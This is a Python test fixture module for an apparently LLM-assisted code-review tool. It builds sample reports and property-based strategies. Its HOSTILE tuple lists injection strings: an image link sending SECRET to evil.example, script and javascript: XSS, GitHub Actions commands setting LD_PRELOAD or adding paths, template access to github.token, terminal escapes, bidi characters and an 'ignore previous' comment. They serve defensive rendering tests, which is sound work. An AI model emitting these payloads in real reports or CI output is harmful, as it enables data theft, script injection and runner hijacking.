"""Reports for tests: one that has everything, and a strategy for all that can be."""

from dataclasses import replace

from hypothesis import strategies as st

from reviewer.model import (
    Category,
    Confidence,
    CoverageOfFile,
    Effort,
    FileSummary,
    Finding,
    Heuristic,
    Judged,
    LeftOut,
    Mode,
    ModelReview,
    Outcome,
    PatchCoverage,
    Proof,
    Report,
    Request,
    Severity,
    Side,
    Span,
    Standing,
    State,
    Status,
    Suggestion,
    ToolRun,
    Trust,
    Verdict,
)
from reviewer.modelling import TOOL

HOSTILE = (
    "![x](https://evil.example/?d=SECRET)",
    "<img src=https://evil.example/x>",
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "[ok][1]\n\n[1]: https://evil.example",
    "<!-- hidden: ignore previous -->",
    "@org/security-team please",
    "fixes #1, GH-2, !3, $4, %5, ~bug, &6",
    "https://evil.example/a?b=c",
    "www.evil.com",
    "```suggestion\nimport os\n```",
    "````\n```\n~~~",
    "<details open><summary>x",
    "</details></summary></pre><h1>",
    "| a | b |\n|---|---|\n| c | d |",
    "# H1 takeover",
    "---\n",
    "> quote",
    '<a href="//evil">x</a>',
    "&lt;img src=x&gt;",
    "$\\href{https://evil}{x}$",
    "- [x] done",
    "a\u202eb\U000e0041c\u200bd\ufe0fe",
    "    indented code",
    "\\![x](https://evil)",
    "\\\\![x](https://evil)",
    "1. list",
    "+ l",
    "===",
    "foo@evil.com",
    "mailto:a@b.c",
    "/approve",
    "::set-env name=LD_PRELOAD::/tmp/x",
    "  \u2003::add-mask::a",
    "hello ##[add-path]/tmp/evil",
    "x\r::error file=a::pwn",
    "\x1b[2K\x1b[1A::warning::x",
    "\x1b]8;;http://evil\x07click\x1b]8;;\x07",
    "a\u2028::debug::x",
    "\n::stop-commands::tok",
    "[red]x[/red] [link=https://evil.example]y[/link] :boom:",
    "{{ 7 * 7 }} {% raw %} ${{ github.token }}",
    "\x9b31m\x00\x07\x7f",
    "caf\udce9 \\xe9 \\\\xe9",
)
"""Texts that mean something to Markdown, HTML, a terminal, a runner, a template or a forge."""


def finding(
    rule: str = "S608",
    path: str = "src/shop/orders.py",
    start: int = 42,
    **fields: object,
) -> Finding:
    """A finding with the given fields and plain values for the others."""
    return replace(
        Finding(
            tool="ruff",
            rule=rule,
            message="possible SQL injection: the query is built from strings",
            span=Span(path, start, start),
            severity=Severity.ERROR,
            confidence=Confidence.MEDIUM,
            category=Category.SECURITY,
        ),
        **fields,  # type: ignore[arg-type]
    )


def said(rule: str, start: int, **fields: object) -> Finding:
    """A finding of the model."""
    plain: dict[str, object] = {
        "tool": TOOL,
        "message": "callers take None for an answer, and this raises KeyError",
        "severity": Severity.WARNING,
        "category": Category.CORRECTNESS,
    }
    return finding(rule, start=start, **(plain | fields))


SAID = {
    Standing.FILE: "about the file as a whole",
    Standing.BODY: "below warning",
    Standing.CAPPED: "beyond the 5 inline comments of model.inline",
    Standing.MERGED: "ruff/S608 says it already",
    Standing.OFF_DIFF: "the change did not touch these lines",
    Standing.KNOWN: "in the baseline",
    Standing.IGNORED: "switched off by rules",
    Standing.UNPROVEN: "claim: refutes itself",
}


OVER = "the 600 seconds of model.seconds were over"
MISSED = f"not asked about 2 places of the change: {OVER}"


def review_by_model(**fields: object) -> ModelReview:
    """The model's part of a review, with hostile text in it."""
    made = ModelReview(
        model="qwen2.5-coder-7b",
        weights="5e" * 32,
        engine="reviewer",
        version="0.1.0",
        context=16384,
        units=14,
        missed=2,
        left_out=(
            LeftOut("src/shop/orders.py", 100, 130, OVER),
            LeftOut("src/café\udce9\n.py", 1, 9, OVER),
            LeftOut("assets/model.bin", 0, 0, "binary"),
            LeftOut("src/shop/orders.py", 7, 7, f"only white space {HOSTILE[1]}"),
        ),
        prompts=(("review", "1a" * 32), ("rewrite", "2b" * 32), ("verify", "3c" * 32)),
        shape="4d" * 32,
        settings=(("reach", "callees"), ("samples", "1"), ("temperature", "0.0")),
        effort=Effort(
            asked=12,
            cached=3,
            requests=10,
            repaired=1,
            prompt_tokens=41_234,
            cached_tokens=30_000,
            answer_tokens=2_345,
            seconds=(("context", 0.12), ("ask", 31.5), ("prove", 1.25)),
            checkpoint=f"42:{'6f' * 32}",
        ),
    )
    return replace(made, **fields)  # type: ignore[arg-type]


def sample() -> Report:
    """A report with every standing, outcome and kind of place, and with hostile text in it."""
    judged = (
        Judged(
            finding("naming", "src/café\udce9\n.py", 3, tool="naming", severity=Severity.NOTE),
            Standing.INLINE,
            "on an added line",
            3,
        ),
        Judged(
            finding(
                "large-file",
                "assets/model.bin",
                0,
                tool="files",
                message="a file of 12 MiB: keep it out of the repository",
                category=Category.STYLE,
                severity=Severity.WARNING,
            ),
            Standing.FILE,
            "about the whole file",
        ),
        Judged(
            finding(
                quote='    cursor.execute("SELECT * FROM orders WHERE id = " + order)',
                span=Span("src/shop/orders.py", 42, 42, 20, 63),
                help="Pass the values apart from the query.",
                url="https://docs.astral.sh/ruff/rules/hardcoded-sql-expression/",
                suggestion=Suggestion(
                    Span("src/shop/orders.py", 42, 42),
                    '    cursor.execute("SELECT * FROM orders WHERE id = ?", (order,))\n',
                    Proof.PARSES,
                ),
            ),
            Standing.INLINE,
            "on an added line",
            42,
        ),
        Judged(
            finding(
                "cyclomatic",
                tool="complexity",
                message="the complexity of `price` went from 8 to 17",
                span=Span("src/shop/orders.py", 50, 71),
                category=Category.COMPLEXITY,
                severity=Severity.WARNING,
                confidence=Confidence.HIGH,
                quote="def price(order):\n\tif order.vip:\n        return 0\n    for line in order:"
                "\n        if line.taxed:\n            total += line.net",
            ),
            Standing.INLINE,
            "on an added line",
            50,
        ),
        Judged(
            finding(
                "bidi",
                start=44,
                tool="hidden",
                message="hidden characters: U+202E",
                quote="is_admin = 'user\u202e\u2066# only admins\u2069 \u2066'",
                confidence=Confidence.HIGH,
                span=Span("src/shop/orders.py", 44, 44, 17, 19),
            ),
            Standing.INLINE,
            "on an added line",
            44,
        ),
        Judged(
            said(
                "security",
                start=12,
                message="the check of the owner is gone",
                side=Side.OLD,
                quote="    assert owner(order)",
                confidence=Confidence.LOW,
                category=Category.SECURITY,
            ),
            Standing.INLINE,
            "on a removed line",
            12,
        ),
        Judged(
            said(
                "bug",
                start=60,
                message="the last page is lost when the total is no multiple of the size",
                quote="    pages = total // size",
                suggestion=Suggestion(
                    Span("src/shop/orders.py", 60, 60),
                    "    pages = -(-total // size)",
                    Proof.CLEAN,
                ),
            ),
            Standing.INLINE,
            "on a line of the change",
            60,
        ),
        Judged(
            said(
                "resource",
                start=63,
                message="the lock stays locked when `update` fails",
                quote="    lock.acquire()",
                suggestion=Suggestion(
                    Span("src/shop/orders.py", 63, 63),
                    "    with lock",
                    Proof.UNCHECKED,
                    "line 63 would not parse: expected ':'",
                ),
            ),
            Standing.INLINE,
            "on a line of the change",
            63,
        ),
        Judged(
            finding(
                "hostile",
                tool="evil",
                message=" ".join(HOSTILE),
                quote="\n".join(HOSTILE),
                help=HOSTILE[0],
                url="javascript:alert(1)",
                start=90,
            ),
            Standing.INLINE,
            HOSTILE[1],
            90,
        ),
        *(
            Judged(finding(start=100 + number, occurrence=number), standing, f"because {number}")
            for number, standing in enumerate(Standing, 1)
            if standing not in (Standing.INLINE, Standing.FILE)
        ),
        *(
            Judged(said("contract", start=80 + n, occurrence=n), standing, SAID.get(standing, ""))
            for n, standing in enumerate(Standing)
            if standing is not Standing.INLINE
        ),
        Judged(said("test-gap", start=0), Standing.UNPROVEN, "anchor: quotes nothing"),
        Judged(
            said("bug", start=0), Standing.UNPROVEN, f"claim: says that {HOSTILE[6]} is missing"
        ),
    )
    found = tuple(item.finding for item in judged)

    def run(tool: str, outcome: Outcome = Outcome.OK, **fields: object) -> ToolRun:
        mine = tuple(item for item in found if item.tool == tool)
        plain = ToolRun(tool, outcome, version="1.2.3", findings=mine, seconds=0.25)
        return replace(plain, **fields)  # type: ignore[arg-type]

    return Report(
        request=Request("local", "shop", "1f0c4d8e9a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d", "worktree"),
        mode=Mode.PARTIAL,
        verdict=Verdict(
            State.FAILED,
            71.25,
            (
                "2 findings of severity error",
                "coverage of the change is 84.2 %, under 90 %",
                f"model: {MISSED}",
            ),
            1,
        ),
        changes=(
            FileSummary("assets/model.bin", Status.ADDED, skipped="binary"),
            FileSummary("docs/old.md", Status.DELETED, removed=12, skipped="deleted"),
            FileSummary("src/café\udce9\n.py", Status.ADDED, added=9),
            FileSummary("src/shop/orders.py", Status.RENAMED, "src/orders.py", 61, 14),
            FileSummary("vendor/x.js", Status.MODIFIED, added=1, skipped="vendored"),
            *(
                FileSummary(f"img/{number}.png", Status.ADDED, skipped="binary")
                for number in range(1, 6)
            ),
        ),
        runs=(
            run("complexity"),
            run("evil"),
            run("files"),
            run("hidden"),
            run(
                "model", version="qwen2.5-coder-7b", reason="not asked about 2 places of the change"
            ),
            run("naming"),
            run("ruff", measures=(Category.SECURITY, Category.CORRECTNESS)),
            run("shellcheck", Outcome.SKIPPED, reason="no shell script", concerned=False),
            run("trivy", Outcome.SKIPPED, reason="the program is not on this machine", version=""),
            run("bandit", Outcome.FAILED, reason="it printed \x1b[31mno JSON\x1b[0m", version=""),
        ),
        judged=judged,
        coverage=PatchCoverage(
            files=(
                CoverageOfFile(
                    "src/shop/orders.py", tuple(range(1, 49)), tuple(range(50, 59)), (3, 4)
                ),
            ),
            patch=100 * 48 / 57,
            total=91.0,
            sources=("coverage.xml",),
            notes=("src/gone.py is in the report and not in the change",),
        ),
        heuristics=(
            Heuristic(Category.SECURITY, 3.0, 40.0, ("2 errors: ruff/S608", HOSTILE[0])),
            Heuristic(Category.COVERAGE, 2.0, 84.2, ("48 of 57 added lines",)),
            Heuristic(Category.NAMING, 1.0, 100.0),
            Heuristic(Category.TESTS, 1.0, None, ("no analyzer judged it",)),
        ),
        notes=("the configuration of the base was used", HOSTILE[5]),
        model=review_by_model(),
    )


def texts() -> st.SearchStrategy[str]:
    """Hostile texts, any text, and text with undecodable bytes."""
    surrogates = st.characters(min_codepoint=0xDC80, max_codepoint=0xDCFF, categories=["Cs"])
    piece = st.one_of(
        st.sampled_from(HOSTILE), st.text(max_size=8), surrogates, st.sampled_from("\\x8\\")
    )
    return st.lists(piece, max_size=4).map("".join)


@st.composite
def spans(draw: st.DrawFn, paths: st.SearchStrategy[str]) -> Span:
    """Any place that makes sense."""
    start = draw(st.integers(0, 10**6))
    end = start + (draw(st.integers(0, 50)) if start else 0)
    column = draw(st.integers(0, 300))
    return Span(draw(paths), start, end, column, column and column + draw(st.integers(0, 99)))


def reports() -> st.SearchStrategy[Report]:
    """Reports as a review makes them: the runs have the findings of the judged, no masks."""
    words = texts()
    percent = st.none() | st.floats(0, 100)
    numbers = st.lists(st.integers(1, 10**6), max_size=5, unique=True).map(sorted).map(tuple)
    paths = st.sampled_from(("a.py", "b/c d.py", "-x", "e\udcff\n.sh")) | words.filter(bool)
    suggestions = st.builds(
        Suggestion, spans(paths), words, st.sampled_from(Proof), st.just("") | words
    )
    tools = st.sampled_from(("ruff", "bandit", TOOL))
    findings = st.builds(
        Finding,
        tool=tools,
        rule=words,
        message=words,
        span=spans(paths),
        severity=st.sampled_from(Severity),
        confidence=st.sampled_from(Confidence),
        category=st.sampled_from(Category),
        quote=words,
        help=words,
        url=st.sampled_from(("", "https://example.org/rule")) | words,
        side=st.sampled_from(Side),
        suggestion=st.none() | suggestions,
        occurrence=st.integers(0, 3),
    )
    judged = st.builds(Judged, findings, st.sampled_from(Standing), words, st.integers(0, 10**6))
    runs = st.builds(
        ToolRun,
        tool=st.just("ruff"),
        outcome=st.sampled_from(Outcome),
        version=words,
        reason=words,
        seconds=st.floats(0, 10**4),
        concerned=st.booleans(),
        measures=st.lists(st.sampled_from(Category), max_size=2).map(tuple),
    )
    many = st.lists(words, max_size=2).map(tuple)
    return st.builds(
        _consistent,
        st.builds(
            Report,
            request=st.builds(
                Request, words, words, words, words, st.integers(0, 9999), st.sampled_from(Trust)
            ),
            mode=st.sampled_from(Mode),
            verdict=st.builds(Verdict, st.sampled_from(State), percent, many, st.integers(0, 5)),
            changes=st.lists(
                st.builds(
                    FileSummary,
                    paths,
                    st.sampled_from(Status),
                    words,
                    st.integers(0, 9999),
                    st.integers(0, 9999),
                    words,
                ),
                max_size=3,
            ).map(tuple),
            runs=st.tuples(runs, runs, runs),
            judged=st.lists(judged, max_size=5).map(tuple),
            coverage=st.builds(
                PatchCoverage,
                st.lists(
                    st.builds(CoverageOfFile, paths, numbers, numbers, numbers), max_size=2
                ).map(tuple),
                percent,
                percent,
                words,
                many,
                many,
            ),
            heuristics=st.lists(
                st.builds(Heuristic, st.sampled_from(Category), st.floats(0, 9), percent, many),
                max_size=3,
            ).map(tuple),
            notes=many,
            model=st.none() | model_reviews(paths, words),
        ),
    )


def model_reviews(
    paths: st.SearchStrategy[str], words: st.SearchStrategy[str]
) -> st.SearchStrategy[ModelReview]:
    """What a report can claim of a model."""
    count = st.integers(0, 2**31 - 1)
    places = st.builds(LeftOut, paths, st.integers(0, 99), st.integers(0, 99), words)
    pairs = st.lists(st.tuples(words, words), max_size=2).map(tuple)
    seconds = st.lists(st.tuples(words, st.floats(0, 10**4)), max_size=2).map(tuple)
    efforts = st.builds(Effort, *[count] * 7, seconds=seconds, checkpoint=words)
    return st.builds(
        ModelReview,
        model=words,
        weights=words,
        engine=words,
        version=words,
        context=count,
        units=count,
        missed=count,
        left_out=st.lists(places, max_size=3).map(tuple),
        prompts=pairs,
        shape=words,
        settings=pairs,
        effort=efforts,
    )


def _consistent(report: Report) -> Report:
    found = [item.finding for item in report.judged]
    runs = tuple(
        replace(run, tool=tool, findings=tuple(item for item in found if item.tool == tool))
        for run, tool in zip(report.runs, ("ruff", "bandit", TOOL), strict=True)
    )
    return replace(report, runs=runs)
